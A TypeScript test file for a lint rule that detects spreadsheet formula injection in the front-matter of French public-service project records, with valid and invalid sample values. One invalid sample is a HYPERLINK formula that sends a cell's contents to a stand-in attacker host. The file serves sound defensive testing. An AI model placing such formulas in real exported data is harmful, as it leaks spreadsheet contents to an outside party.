import rule from '../../../scripts/lint/rules/value-formula.ts'
import { testRule } from '../rule-tester.ts'

testRule(rule, {
  valid: [
    { name: 'ordinary values', fiche: ['title: Exemple', 'title: Exemple'] },
    { name: 'a sign inside a value', fiche: ['mission: Simplifier une démarche pour les usagers', 'mission: Simplifier une démarche = gagner du temps'] },
    { name: 'a number, not text', fiche: ['title: Exemple', 'title: Exemple\nfast:\n  montant: -5'] },
    { name: 'an organisation with values', file: 'organisations/dinum.md', fiche: '---\nname: DINUM\nacronym: DINUM\n---\n' },
  ],
  invalid: [
    { name: 'a title that is a formula', fiche: ['title: Exemple', `title: '=HYPERLINK("https://evil.example/?"&A2,"Cliquez")'`], errors: [['formula', 2, 8]] },
    { name: 'a mission starting with +', fiche: ['mission: Simplifier une démarche pour les usagers', "mission: '+50 % de démarches en ligne'"], errors: [['formula', 3, 10]] },
    { name: 'a list item starting with -', fiche: ['  - particulier', "  - '-particulier'"], errors: [['formula', 23, 5]] },
    { name: 'an @ in a contact', fiche: ['contact: contact@exemple.beta.gouv.fr', "contact: '@equipe'"], errors: [['formula', 5, 10]] },
    { name: 'a tab written as an escape', fiche: ['title: Exemple', 'title: "\\t=1+1"'], errors: [['formula', 2, 8]] },
    { name: 'an organisation name', file: 'organisations/dinum.md', fiche: "---\nname: '=1+1'\nacronym: DINUM\n---\n", errors: [['formula', 2, 7]] },
  ],
})
